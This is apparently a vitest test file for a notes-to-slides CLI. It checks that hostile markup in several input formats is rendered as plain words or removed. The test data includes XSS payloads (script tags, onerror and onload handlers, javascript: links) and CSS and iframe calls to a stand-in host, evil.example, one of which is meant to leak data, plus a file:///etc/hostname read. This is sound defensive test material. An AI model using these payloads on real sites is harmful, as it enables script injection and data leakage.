import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { elementsIn, htmlSlides, parseHtml } from '../support/html-slides.js'
import { liveElements } from '../support/make-slides.js'
import { runCli, tempFolder } from '../support/run-cli.js'

const read = (folder: string, name: string): string =>
  readFileSync(join(folder, 'out', name), 'utf8')

/** Markup that would run, load, style or steer if it were obeyed; each says a word. */
const hostile = [
  '<script>alert(1)</script>語0',
  '<img src=x onerror=alert(1)>語1',
  '<svg onload=alert(1)><a xlink:href="javascript:x"></a></svg>語2',
  '<iframe src="https://evil.example/f"></iframe>語3',
  '<form action="https://evil.example/"><input name=a></form>語4',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">語5',
  '<base href="https://evil.example/">語6',
  '<style>@import url(https://evil.example/a.css); section{display:none}</style>語7',
  '<div style="background:url(https://evil.example/?leak)">語8</div>',
  '<span style="background:url(file:///etc/hostname)">語9</span>',
  '<link rel=stylesheet href="https://evil.example/b.css">語10',
  '<!-- theme: gaia -->語11',
  '<!-- _class: lead -->語12',
  '<video src="https://evil.example/v" autoplay></video>語13',
  '<object data="https://evil.example/o"></object>語14',
]
const xml = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;')

const notes: Record<string, string> = {
  'a.txt': `会\n\n${hostile.map((text) => `・${text}`).join('\n')}\n`,
  'b.md': `# 会\n\n${hostile.map((text) => `- ${text}`).join('\n')}\n`,
  'c.md': `# 会\n\n${hostile.join('\n\n')}\n`,
  'd.html': `<h1>会</h1>${hostile.map((text) => `<div>${text}</div>`).join('\n')}`,
  'e.opml': `<opml><body><outline text="会">${hostile.map((text) => `<outline text="${xml(text)}"/>`).join('\n')}</outline></body></opml>`,
  'f.org': `* 会\n${hostile.map((text) => `- ${text}`).join('\n')}\n`,
}

test.each(Object.keys(notes))('hostile markup is words or nothing: %s', async (name) => {
  const folder = tempFolder({ [name]: notes[name] ?? '' })
  const run = await runCli([name, '--to', 'html,md', '--json'], { cwd: folder })
  const [deck] = JSON.parse(run.stdout).decks
  expect(run.code, run.stdout).toBe(0)
  expect(deck.account).toMatchObject({ dropped: 0 })
  const stem = name[0] ?? ''
  const html = read(folder, `${stem}.html`)
  const slides = htmlSlides(html)
  // A form is no text of a page, with what is in it.
  const words = slides.map(({ whole }) => whole).join('\n')
  for (const n of hostile.keys()) expect(words, `語${n}`).toContain(`語${n}`)
  const sections = elementsIn(parseHtml(html), ({ tagName }) => tagName === 'section')
  for (const section of sections) {
    expect(section.properties.dataTheme ?? 'jaws').toBe('jaws')
    expect(JSON.stringify(section.properties)).not.toMatch(/lead|gaia/)
  }
  const raw = html.match(/<section[^>]*data-theme[\s\S]*?<\/section>/g) ?? []
  expect(raw.length).toBe(slides.length)
  expect(raw.flatMap(liveElements)).toEqual([])
  for (const css of html.match(/<style[\s\S]*?<\/style>/g) ?? []) {
    expect(css).not.toMatch(/url\(["']?(?:https?|file):|evil/)
  }
  expect(read(folder, `${stem}.md`)).not.toMatch(/^<!-- (?:theme: gaia|_class: lead) -->$/m)
})

test('a finished deck keeps its own directives and asks nothing of others', async () => {
  const text = `---\nmarp: true\ntheme: gaia\nbackgroundImage: url(https://evil.example/bg.png)\nstyle: |\n  @import url(https://evil.example/a.css);\n  section { background: url(file:///etc/hostname) }\n---\n# 題\n\n${hostile.slice(0, 11).join('\n\n')}\n\n![bg](https://evil.example/x.png)\n`
  const folder = tempFolder({ 'a.md': text })
  const run = await runCli(['a.md'], { cwd: folder })
  expect(run.code, run.stderr).toBe(0)
  const html = read(folder, 'a.html')
  expect(html).toContain('data-theme="gaia"')
  const shown = elementsIn(
    parseHtml(html),
    ({ tagName, properties }) => tagName === 'section' && properties['dataTheme'] !== undefined,
  )
  const elements = shown.flatMap((section) => elementsIn(section, () => true))
  for (const { tagName, properties } of [...shown, ...elements]) {
    expect(tagName).not.toMatch(/^(?:script|iframe|form|input|meta|base|link|svg|object|video)$/)
    expect(JSON.stringify(properties)).not.toMatch(/url\((?:"|')?(?:https?|file):|"on\w+":/i)
    expect(String(properties.src ?? 'data:,')).toMatch(/^data:/)
  }
  expect(html).not.toMatch(/@import\s+(?:url\()?["']?https?:/)
})

test('Shift_JIS with 0x5C in its letters: the words, and what was assumed', async () => {
  // 表能ソ and ・ in Shift_JIS.
  const bytes = Buffer.from(
    '95 5c 94 5c 83 5c 0a 0a 81 45 95 5c 0a 81 45 94 5c 83 5c 0a'.replaceAll(' ', ''),
    'hex',
  )
  const folder = tempFolder({ 'a.txt': bytes })
  const run = await runCli(['a.txt'], { cwd: folder })
  expect(run.code, run.stderr).toBe(0)
  const said = /^a\.txt(?::\d+:\d+)?: info encoding: Read as Shift_JIS/m
  expect(run.stderr).toMatch(said)
  expect((await runCli(['check', 'a.txt'], { cwd: folder })).stderr).toMatch(said)
  const words = htmlSlides(read(folder, 'a.html')).map(({ whole }) => whole)
  expect(words.join('')).toMatch(/表能ソ[\s\S]*表[\s\S]*能ソ/)
})
